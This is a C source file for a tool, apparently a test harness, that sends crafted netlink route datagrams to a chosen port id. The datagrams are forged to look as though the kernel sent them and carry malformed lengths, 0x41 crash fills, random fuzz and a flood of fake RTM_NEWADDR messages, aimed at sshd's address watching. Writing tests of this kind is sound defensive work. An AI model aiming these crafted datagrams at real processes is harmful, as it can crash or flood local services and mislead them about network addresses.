/*
 * nl-send PORTID CASE [COUNT]: send hostile datagrams from a user process
 * to the netlink route socket whose port id is PORTID (unicast: nl_pid
 * PORTID, nl_groups 0), the way t-12 abuses sshd's address watch.  Every
 * header claims to come from the kernel (nlmsg_pid 0); only the sender's
 * address, which the kernel fills in, says it does not.  Prints
 * "CASE: sent N datagrams, B bytes".  Exit 0 if all were sent, 1 on an
 * error, 2 on bad usage.
 *   crash1     8192 bytes, nlmsg_len 8192, RTM_NEWADDR, the rest 0x41
 *   crash2     17 bytes, nlmsg_len 17, RTM_NEWADDR, one byte 0x41
 *   unaligned  nlmsg_len 21, 22 and 23 (not multiples of 4) in datagrams
 *              of that length
 *   zero       nlmsg_len 0 in a 16-byte datagram
 *   huge       nlmsg_len 0xffffffff in a 16-byte datagram
 *   truncated  10 bytes of a header claiming 64
 *   oversized  65000 bytes of well-formed RTM_NEWADDR messages
 *   random     COUNT (default 200) datagrams of 1..9000 random bytes, from
 *              a fixed seed
 *   flood      COUNT (default 20000) well-formed RTM_NEWADDR messages for
 *              198.51.100.77
 *   multi      three messages in one datagram, the last one's nlmsg_len
 *              running past its end
 * The socket blocks, with a send timeout: a unicast to a full receive
 * queue waits for the receiver to drain it, and EAGAIN means it did not
 * for SEND_TIMEOUT seconds.
 */
#include <sys/types.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define SEND_TIMEOUT	5	/* seconds */
#define SEND_TRIES	3	/* on EAGAIN / ENOBUFS */
#define MAX_DGRAM	65000

static int s = -1;
static struct sockaddr_nl dst;
static unsigned long sent, bytes;
static uint32_t seq;
static unsigned char buf[MAX_DGRAM];

static void
usage(void)
{
	fprintf(stderr, "usage: nl-send PORTID crash1|crash2|unaligned|zero|"
	    "huge|truncated|oversized|random|flood|multi [COUNT]\n");
	exit(2);
}

/* Send one datagram; exit 1 if the kernel refuses it */
static void
send_dgram(const void *p, size_t len)
{
	int tries = 0;

	while (sendto(s, p, len, 0, (struct sockaddr *)&dst,
	    sizeof(dst)) == -1) {
		if (errno == EINTR)
			continue;
		if ((errno == EAGAIN || errno == ENOBUFS) &&
		    ++tries < SEND_TRIES)
			continue;
		fprintf(stderr, "nl-send: sendto port %u after %lu datagrams: "
		    "%s\n", dst.nl_pid, sent, strerror(errno));
		exit(1);
	}
	sent++;
	bytes += len;
}

/* Write a header at p; nlmsg_pid 0 pretends the kernel sent it */
static void
put_hdr(void *p, uint32_t len, uint16_t type)
{
	struct nlmsghdr nh;

	memset(&nh, 0, sizeof(nh));
	nh.nlmsg_len = len;
	nh.nlmsg_type = type;
	nh.nlmsg_seq = ++seq;
	nh.nlmsg_pid = 0;
	memcpy(p, &nh, sizeof(nh));
}

/*
 * A well-formed RTM_NEWADDR message for 198.51.100.77/24 at p (room for
 * at least newaddr_len() bytes); returns its length.
 */
static size_t
newaddr_len(void)
{
	return NLMSG_LENGTH(sizeof(struct ifaddrmsg)) +
	    RTA_SPACE(sizeof(struct in_addr));
}

static size_t
put_newaddr(unsigned char *p)
{
	struct ifaddrmsg ifa;
	struct rtattr rta;
	struct in_addr in;
	size_t len = newaddr_len();

	memset(p, 0, len);
	put_hdr(p, len, RTM_NEWADDR);
	memset(&ifa, 0, sizeof(ifa));
	ifa.ifa_family = AF_INET;
	ifa.ifa_prefixlen = 24;
	ifa.ifa_index = 2;
	memcpy(p + NLMSG_HDRLEN, &ifa, sizeof(ifa));
	rta.rta_len = RTA_LENGTH(sizeof(in));
	rta.rta_type = IFA_ADDRESS;
	memcpy(p + NLMSG_LENGTH(sizeof(ifa)), &rta, sizeof(rta));
	inet_pton(AF_INET, "198.51.100.77", &in);
	memcpy(p + NLMSG_LENGTH(sizeof(ifa)) + RTA_LENGTH(0), &in,
	    sizeof(in));
	return len;
}

/* xorshift32: the same sequence from the same seed on every libc */
static uint32_t
rnd(void)
{
	static uint32_t x = 0x12345678;

	x ^= x << 13;
	x ^= x >> 17;
	x ^= x << 5;
	return x;
}

static void
case_crash1(void)
{
	memset(buf, 0x41, 8192);
	put_hdr(buf, 8192, RTM_NEWADDR);
	send_dgram(buf, 8192);
}

static void
case_crash2(void)
{
	memset(buf, 0, 17);
	put_hdr(buf, 17, RTM_NEWADDR);
	buf[16] = 0x41;
	send_dgram(buf, 17);
}

static void
case_unaligned(void)
{
	uint32_t len;

	for (len = 21; len <= 23; len++) {
		memset(buf, 0x41, len);
		put_hdr(buf, len, RTM_NEWADDR);
		send_dgram(buf, len);
	}
}

static void
case_header_only(uint32_t claim, size_t len)
{
	memset(buf, 0, sizeof(struct nlmsghdr));
	put_hdr(buf, claim, RTM_NEWADDR);
	send_dgram(buf, len);
}

static void
case_oversized(void)
{
	size_t off, len;

	/*
	 * Address messages zero padded to 1024 bytes; the last one (488)
	 * still has room for one.
	 */
	memset(buf, 0, MAX_DGRAM);
	for (off = 0; off < MAX_DGRAM; off += len) {
		len = MAX_DGRAM - off < 1024 ? MAX_DGRAM - off : 1024;
		put_newaddr(buf + off);
		put_hdr(buf + off, len, RTM_NEWADDR);
	}
	send_dgram(buf, MAX_DGRAM);
}

static void
case_random(unsigned long count)
{
	unsigned long i;
	size_t j, len;

	for (i = 0; i < count; i++) {
		len = 1 + rnd() % 9000;
		for (j = 0; j < len; j++)
			buf[j] = rnd() & 0xff;
		send_dgram(buf, len);
	}
}

static void
case_flood(unsigned long count)
{
	unsigned long i;
	size_t len;

	for (i = 0; i < count; i++) {
		len = put_newaddr(buf);
		send_dgram(buf, len);
	}
}

static void
case_multi(void)
{
	size_t off = 0;

	memset(buf, 0, 128);
	off += put_newaddr(buf + off);
	put_hdr(buf + off, NLMSG_LENGTH(4), RTM_DELADDR);
	off += NLMSG_SPACE(4);
	/* Claims 200 bytes, 24 are left */
	put_hdr(buf + off, 200, RTM_NEWADDR);
	memset(buf + off + NLMSG_HDRLEN, 0x41, 8);
	off += NLMSG_HDRLEN + 8;
	send_dgram(buf, off);
}

int
main(int argc, char **argv)
{
	struct timeval tv;
	const char *what;
	char *ep;
	unsigned long portid, count = 0;

	if (argc < 3 || argc > 4)
		usage();
	errno = 0;
	portid = strtoul(argv[1], &ep, 10);
	if (*argv[1] == '\0' || *ep != '\0' || errno != 0 ||
	    portid == 0 || portid > UINT32_MAX)
		usage();
	what = argv[2];
	if (argc == 4) {
		count = strtoul(argv[3], &ep, 10);
		if (*argv[3] == '\0' || *ep != '\0' || count == 0)
			usage();
	}

	if ((s = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE)) == -1) {
		fprintf(stderr, "nl-send: socket: %s\n", strerror(errno));
		return 1;
	}
	tv.tv_sec = SEND_TIMEOUT;
	tv.tv_usec = 0;
	if (setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv)) == -1) {
		fprintf(stderr, "nl-send: SO_SNDTIMEO: %s\n", strerror(errno));
		return 1;
	}
	memset(&dst, 0, sizeof(dst));
	dst.nl_family = AF_NETLINK;
	dst.nl_pid = (uint32_t)portid;
	dst.nl_groups = 0;

	if (strcmp(what, "crash1") == 0)
		case_crash1();
	else if (strcmp(what, "crash2") == 0)
		case_crash2();
	else if (strcmp(what, "unaligned") == 0)
		case_unaligned();
	else if (strcmp(what, "zero") == 0)
		case_header_only(0, sizeof(struct nlmsghdr));
	else if (strcmp(what, "huge") == 0)
		case_header_only(0xffffffff, sizeof(struct nlmsghdr));
	else if (strcmp(what, "truncated") == 0)
		case_header_only(64, 10);
	else if (strcmp(what, "oversized") == 0)
		case_oversized();
	else if (strcmp(what, "random") == 0)
		case_random(count ? count : 200);
	else if (strcmp(what, "flood") == 0)
		case_flood(count ? count : 20000);
	else if (strcmp(what, "multi") == 0)
		case_multi();
	else
		usage();
	printf("%s: sent %lu datagrams, %lu bytes\n", what, sent, bytes);
	close(s);
	return 0;
}
